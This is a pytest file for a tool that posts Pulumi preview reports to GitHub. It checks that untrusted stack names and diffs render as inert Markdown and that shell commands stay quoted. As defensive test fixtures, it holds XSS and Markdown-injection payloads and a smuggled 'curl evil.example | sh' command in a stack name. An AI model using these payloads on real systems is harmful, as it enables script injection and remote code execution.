"""The one Markdown boundary: untrusted text renders as itself — no mention, HTML, link, image
or broken layout — in every body clusterstack posts to GitHub.

Rendering is checked with markdown-it-py, a CommonMark-conformant parser (CommonMark 0.31 spec
tests; it is already installed as rich's Markdown renderer). GitHub renders with cmark-gfm,
CommonMark plus the GFM extensions; the GFM-only autolinks (``www.``, bare ``https://``) are
checked on the text (the U+200B this module inserts breaks them, GFM spec §6.9).
"""

from __future__ import annotations

import ast
import html
import json
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from clusterstack import markdown as md
from clusterstack.ci.comment import CommentError, StackReport, load_reports, render_comment
from clusterstack.ci.deployment import Deployment, apply_command, reminder_body
from clusterstack.ci.drift import _change_note, _entries_from_body, issue_body
from clusterstack.cli import main
from fakes.clients import fake_clients
from helpers import parsed

markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py (rich's dependency) is absent")
MD = markdown_it.MarkdownIt("commonmark").enable("strikethrough")
SRC = Path(__file__).resolve().parents[1] / "src" / "clusterstack"
RUN = "https://github.com/example-lab/infra/actions/runs/123456789"

HOSTILE_STACK = 'x</summary></details><img src=x onerror=alert(1)>\n\n# @octocat `a` [l](https://evil.example)'
HOSTILE_TEXT = ("boom @octocat @example-lab/admins <b>bold</b> [click](https://evil.example) "
                "![px](https://evil.example/p.png) www.evil.example https://evil.example/x #12 "
                "*em* ~~s~~ &#64;octocat <!-- x --> \u202eevil\x07")


def tags(rendered_html: str) -> set[str]:
    return {m.lower() for m in re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", rendered_html)}


def visible(rendered_html: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered_html)).replace(md.ZWSP, "")


def mentions(s: str) -> list[str]:
    """``@login`` as GitHub's mention filter sees it: ``@`` directly followed by a login character."""
    return re.findall(r"(?<![A-Za-z0-9])@[A-Za-z0-9]", s)


def autolinks(s: str) -> list[str]:
    """GFM extended autolinks (spec §6.9): ``www.`` and ``http(s)://`` in text."""
    return re.findall(r"(?i)(?:\bwww\.|\bhttps?://)", s)


# --- the functions, on concrete inputs ------------------------------------------------------------

def test_text_renders_hostile_input_as_itself():
    out = MD.render(md.text(HOSTILE_TEXT))
    assert tags(out) == {"p"}                      # no <b>, <a>, <img>, <em>, <del>, comment
    assert visible(out).strip() == md._clean(HOSTILE_TEXT, None)   # the text, as typed (one line)
    assert mentions(out) == [] and autolinks(out) == []
    assert "\u202e" not in out and "\x07" not in out
    assert md.text("a" * 500, limit=10) == "a" * 9 + "…"


def test_text_that_starts_a_line_is_no_heading_or_list():
    for s in ("# heading", "- item", "+ item", "1. item", "3) item", "=== x"):
        assert tags(MD.render(md.text(s))) == {"p"}, s


def test_html_text_inside_summary_cannot_close_it():
    line = f"<details><summary>{md.html_text(HOSTILE_STACK)}</summary>\n\n```text\nx\n```\n\n</details>\n"
    out = MD.render(line)
    assert out.count("<summary>") == 1 and out.count("</summary>") == 1 and out.count("</details>") == 1
    assert "<img" not in out and "<h1" not in out and mentions(out) == []


@pytest.mark.parametrize("value", ["plain", "a`b", "``x``", "`", " lead", "trail ", "", "a\nb"])
def test_code_span_holds_any_backticks(value):
    out = MD.render("x " + md.code(value))
    assert tags(out) == {"p", "code"}
    [inner] = re.findall(r"<code>(.*?)</code>", out, re.S)
    assert html.unescape(inner).replace(md.ZWSP, "").strip() == " ".join(value.split()).strip()


def test_fence_is_not_closed_by_its_content():
    body = "a\n```\n<b>x</b>\n````\n@octocat\n"
    out = MD.render(md.fence(body) + "after\n")
    assert out.count("<pre>") == 1 and "<b>" not in out
    assert html.unescape(re.search(r"<code[^>]*>(.*)</code>", out, re.S).group(1)).replace(md.ZWSP, "") == body
    assert "<p>after</p>" in out


def test_link_only_to_a_plain_https_url():
    assert md.link("run", RUN) == f"[run]({RUN})"
    for bad in ("javascript:alert(1)", "http://x.example", "https://x.example/a b", "https://x.example/(x)",
                'https://x.example/"onmouseover', "https://x.example/\n[y](z)"):
        out = MD.render(md.link("run", bad))
        assert "<a " not in out, bad


def test_bound_cuts_on_a_line_and_closes_an_open_fence():
    body = "head\n```sh\n" + "".join(f"line {i}\n" for i in range(2000)) + "```\ntail\n"
    out = md.bound(body, 4000)
    assert md.nbytes(out) <= 4000 and out.endswith("run's artifacts)\n")
    rendered = MD.render(out)
    assert rendered.count("<pre>") == 1 and "cut to fit" in visible(rendered).split("line")[-1]
    assert md.bound("short\n", 4000) == "short\n"
    with pytest.raises(ValueError):
        md.bound("x" * 100, 10)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("@<>[]()!`*_~#\\&\"'/:.\n\r\t -=+|1aZw\u200b\u202e\x00")) |
               st.characters(), max_size=60))
def test_any_text_renders_as_itself_and_nothing_else(s):
    out = MD.render("x " + md.text(s))
    assert tags(out) <= {"p"}
    assert visible(out).strip() == ("x " + md._clean(s, None).replace(md.ZWSP, "")).strip()
    assert mentions(out) == [] and autolinks(out) == []


# --- every GitHub body, with hostile preview files ------------------------------------------------

def hostile_reports() -> list[StackReport]:
    guard = {"ok": False, "violations": [{"op": "delete <b>", "urn": f"urn:pulumi:s::p::t::{HOSTILE_TEXT}"}],
             "destructive": []}
    static = {"destructive": 1, "stacks": [{"findings": [{"op": "replace", "urn": "urn:pulumi:s::p::t::n@octocat",
                                                         "path": "spec[x](https://evil.example)"}]}]}
    return [StackReport(stack=HOSTILE_STACK, severity="blocked", counts={"update": 1}, guard=guard,
                        diff=f"~ {HOSTILE_TEXT}\n```\n</details>\n", capacity=(HOSTILE_TEXT,), static=static),
            StackReport(stack="@octocat", severity="error", error={"message": HOSTILE_TEXT}, diff="x\n"),
            StackReport(stack="ok-stack", severity="change", counts={"create": 2}, diff="+ a\n")]


def assert_safe(body: str, *, blocks: int = 0) -> None:
    # HTML comments (the machine data) are not rendered and not mention-filtered
    out = re.sub(r"<!--.*?-->", "", MD.render(body), flags=re.S)
    assert "<img" not in out and "<b>" not in out and "<h1" not in out and "<em>" not in out
    assert set(re.findall(r'<a href="([^"]*)"', out)) <= {RUN}
    assert mentions(out) == [], mentions(out)
    assert out.count("<details>") == out.count("</details>") == blocks
    assert out.count("<summary>") == out.count("</summary>") == blocks
    outside_links = re.sub(r'<a href="[^"]*">', "", out)
    assert autolinks(outside_links.replace(RUN, "")) == []


def test_the_pr_comment_is_safe_whatever_the_preview_files_say():
    reports = hostile_reports()
    c = render_comment(reports, sha="3f2a9c1d7b8e", run_url=RUN)
    assert_safe(c.body, blocks=3)
    assert "\n\n# " not in c.body.split("#### Diffs")[1]   # the name's blank line and heading are gone


def test_a_crafted_run_url_is_not_linked():
    url = "javascript:alert(1)//" + HOSTILE_TEXT
    whole = render_comment(hostile_reports(), run_url=url)
    # one byte short of the whole comment: cut, so the truncation notice names the run's URL
    c = render_comment(hostile_reports(), run_url=url, max_bytes=len(whole.body.encode()) - 1)
    assert c.truncated
    assert_safe(c.body, blocks=0)


def test_the_drift_issue_and_its_notes_are_safe():
    reports = hostile_reports()
    body = issue_body(reports, "0" * 64, run_url=RUN)
    assert_safe(body)
    old = {e["stack"]: e for e in _entries_from_body(body)}
    assert HOSTILE_STACK.split("`")[0].split("\n")[0].startswith("x</summary>")
    assert {"@octocat"} <= set(old)      # a name reads back from the body without the U+200B
    note = _change_note({}, [{"stack": HOSTILE_STACK, "severity": "change", "counts": {}}], RUN,
                        [{"stack": "@octocat", "reason": HOSTILE_TEXT}])
    assert_safe(note)


def test_the_drift_issue_body_fits_github_with_thousands_of_stacks():
    reports = [StackReport(stack=f"stack-{i:05d}-" + "x" * 40, severity="error",
                           error={"message": HOSTILE_TEXT * 3}) for i in range(2000)]
    body = issue_body(reports, "0" * 64)
    assert md.nbytes(body) <= md.GITHUB_LIMIT and "more stacks cut" in body


def test_the_deployment_reminder_is_safe_and_its_commands_are_quoted():
    merged = datetime(2026, 1, 2, 3, 4, tzinfo=timezone.utc)
    evil = "x; curl evil.example | sh\n```\n@octocat"
    body = reminder_body(7, merged, [Deployment(evil, problem=HOSTILE_TEXT), Deployment("ok")],
                         failed_previews=[HOSTILE_STACK])
    assert_safe(body)
    out = MD.render(body)
    [shell] = re.findall(r'<code class="language-sh">(.*?)</code>', out, re.S)
    shell = html.unescape(shell).replace(md.ZWSP, "")
    # the whole name is one single-quoted shell word (its newline too): pasted, it runs nothing
    assert apply_command(evil) in shell and apply_command(evil).startswith("clusterstack up 'x; curl")
    assert apply_command("buckets/a b", "infra/buckets") == "pulumi up --cwd infra/buckets --stack 'a b'"


# --- links never followed -------------------------------------------------------------------------

def _preview(d: Path, stack: str = "s") -> None:
    d.mkdir(parents=True)
    (d / "meta.json").write_text(json.dumps({"schema": 1, "stack": stack, "severity": "change",
                                             "counts": {"update": 1}, "diff": "diff.txt"}))


def test_a_symlinked_diff_is_refused_not_followed(tmp_path, workspace_copy):
    secret = tmp_path / "runner-secret"
    secret.write_text("TOKEN=very-secret-value\n")
    _preview(tmp_path / "p" / "s")
    (tmp_path / "p" / "s" / "diff.txt").symlink_to(secret)
    with pytest.raises(CommentError, match="symbolic link"):
        load_reports(tmp_path / "p")
    out = tmp_path / "comment.md"
    code = main(["--root", str(workspace_copy), "ci", "comment", str(tmp_path / "p"), "--output", str(out)],
                clients=fake_clients())
    assert code == 2 and not out.exists()


@pytest.mark.parametrize("what", ["meta", "dir", "static", "dangling"])
def test_every_other_link_in_the_preview_directory_is_refused(tmp_path, what):
    target = tmp_path / "elsewhere"
    _preview(target / "s")
    p = tmp_path / "p"
    if what == "dir":
        p.mkdir()
        (p / "s").symlink_to(target / "s", target_is_directory=True)
    elif what == "meta":
        (p / "s").mkdir(parents=True)
        (p / "s" / "meta.json").symlink_to(target / "s" / "meta.json")
    else:
        _preview(p / "s")
        name = "static-diff.json" if what == "static" else "diff.txt"
        (p / "s" / name).symlink_to(tmp_path / "does-not-exist")
    with pytest.raises(CommentError, match="symbolic link"):
        load_reports(p)


def test_counts_that_are_not_integers_are_refused(tmp_path):
    d = tmp_path / "p" / "s"
    d.mkdir(parents=True)
    (d / "meta.json").write_text(json.dumps({"schema": 1, "stack": "s", "severity": "change",
                                             "counts": {"update": "<img src=x>"}}))
    with pytest.raises(CommentError, match="counts"):
        load_reports(tmp_path / "p")


# --- the boundary is the only way in (read from the source) -------------------------------------

WRITERS = ("create_comment", "create_issue", "edit_issue", "edit_comment", "upsert_comment")
#: modules that call a GitHub body writer, and why each is allowed to
WRITER_MODULES = {
    "adapters/github.py": "the adapter: sends the body it is given",
    "ci/github.py": "the upsert: sends the body it is given",
    "ci/flows.py": "posts render_comment / reminder_body output",
    "ci/drift.py": "builds its bodies through clusterstack.markdown",
}
#: the functions that build a GitHub body from preview files, the PR or the engine
BUILDERS = {
    "ci/comment.py": ("counts_text", "status_line", "_block_parts", "_cut_note", "data_line", "render_comment"),
    "ci/drift.py": ("issue_body", "sync_issue", "_change_note"),
    "ci/deployment.py": ("apply_command", "reminder_body"),
}
#: interpolations in the builders that are trusted (layout, numbers, validated enums, text built
#: from md.* pieces) — a new interpolation of anything else must go through ``md.*`` or be
#: reviewed into this list
TRUSTED = {
    # icons and labels of the validated severities (load_reports refuses any other)
    "ICONS[r.severity]", "ICONS[s]", "ICONS[UNCHECKED]", "LABELS[s]",
    # integers (counts are validated non-negative ints in load_reports)
    "counts[k]", "tally[s]", "same", "len(violations)", "more", "n", "len(drifting)", "checked",
    "len(unchecked)", "len(reports)", "lines", "max_bytes", "fixed", "_nbytes(body)", "GITHUB_LIMIT",
    "pr", "len(pending)", "len(results)", "d.update.version",
    "sum((1 for r in drifting if r.severity == s))",
    # fixed words and plural endings
    "verb", "kind", "'s' * (len(violations) != 1)", "'s' * (n != 1)", "'s' * (len(cut) != 1)",
    "'s' * (len(omitted) != 1)", "'s' * (lines != 1)", "'s' * (len(unchecked) != 1)",
    "'s' * (len(results) != 1)", "'were' if len(cut) != 1 else 'was'", "'were' if len(omitted) != 1 else 'was'",
    # pieces already built from md.* calls or trusted parts within the same function
    "g", "shown", "summary", "at", "where", "what", "'; '.join(parts)", "counts_text(r.counts)", "v",
    "fence", "tally",
    # markers and machine data (JSON in an HTML comment, "<" and ">" \u-escaped by data_line)
    "MARKER", "fp", "data_line(reports, sha)",
    # times formatted by strftime
    "when", "d.update.start_time.strftime('%Y-%m-%d %H:%M UTC')",
    # shell words quoted by shlex.quote
    "q(stack)", "q(project_dir or project)", "q(name)",
}


def _module(rel: str) -> ast.Module:
    return parsed(SRC / rel)


def test_only_the_known_modules_write_github_bodies():
    found = set()
    for path in SRC.rglob("*.py"):
        tree = parsed(path)
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                if name in WRITERS:
                    found.add(path.relative_to(SRC).as_posix())
    assert found == set(WRITER_MODULES), "a new GitHub body writer: route its text through clusterstack.markdown"


def _escaped(v: ast.expr) -> bool:
    """``md.f(...)``, or ``', '.join(map(md.f, xs))``."""
    if isinstance(v, ast.Call) and isinstance(v.func, ast.Attribute):
        if isinstance(v.func.value, ast.Name) and v.func.value.id == "md":
            return True
        if v.func.attr == "join" and len(v.args) == 1 and isinstance(v.args[0], ast.Call) and \
                getattr(v.args[0].func, "id", "") == "map":
            return _escaped(ast.Call(func=v.args[0].args[0], args=[], keywords=[])) if \
                isinstance(v.args[0].args[0], ast.Attribute) else False
    return False


@pytest.mark.parametrize("rel", sorted(BUILDERS))
def test_every_interpolation_in_a_body_builder_is_escaped_or_trusted(rel):
    tree = _module(rel)
    assert any(isinstance(n, ast.ImportFrom) and n.module == "clusterstack" and
               any(a.name == "markdown" for a in n.names) for n in ast.walk(tree))
    functions = {f.name: f for f in ast.walk(tree) if isinstance(f, ast.FunctionDef)}
    assert set(BUILDERS[rel]) <= set(functions), "a body builder was renamed: update BUILDERS"
    loose = []
    for name in BUILDERS[rel]:
        for node in ast.walk(functions[name]):
            if isinstance(node, ast.FormattedValue) and not _escaped(node.value):
                src = ast.unparse(node.value)
                if src not in TRUSTED:
                    loose.append(f"{rel}:{node.lineno}: {name}: {{{src}}}")
    assert loose == [], "untrusted text interpolated without clusterstack.markdown:\n" + "\n".join(loose)


def test_the_source_check_catches_a_raw_interpolation():
    # the check above is not vacuous: the pre-boundary status line is caught
    tree = ast.parse('def status_line(r):\n    return f"- {ICONS[r.severity]} `{r.stack}` — {md.text(r.x)}"\n')
    loose = [ast.unparse(n.value) for n in ast.walk(tree)
             if isinstance(n, ast.FormattedValue) and not _escaped(n.value) and ast.unparse(n.value) not in TRUSTED]
    assert loose == ["r.stack"]


# --- a hostile stack id changes no structure of the comment --------------------------

_ODD_IDS = ["x](https://evil.example) [y", "`a` [z](https://e.example)", "<img src=x onerror=alert(1)>",
            "a\n\n# Heading", "x``](javascript:alert(1))", "**bold** _it_", "|a|b|\n|-|-|", "</details><a href=x>y</a>",
            "[ref]: https://evil.example", "x --> <b>", "a\\", "```", "- item", "1. item", "> quote", "---"]


def _shape(body: str) -> list[str]:
    """The token types of ``body`` as CommonMark parses it (text and code contents left out)."""
    def walk(tokens):
        for t in tokens:
            if t.type not in ("text", "code_inline", "softbreak"):
                yield t.type
            if t.children:
                yield from walk(t.children)
    return list(walk(MD.parse(body)))


def test_a_hostile_stack_id_changes_no_structure_of_the_comment():
    """Rendered with benign names and with the odd ones, the comment parses to the same tokens:
    no link, image, heading, emphasis, table, list, quote or raw HTML comes from a stack id."""
    def reports(names):
        return [StackReport(stack=n, severity="change", counts={"update": 1}, diff="~ x\n") for n in names]

    benign = render_comment(reports([f"stack-{i:02d}" for i in range(len(_ODD_IDS))]), run_url=RUN)
    hostile = render_comment(reports(_ODD_IDS), run_url=RUN)
    assert _shape(hostile.body) == _shape(benign.body)
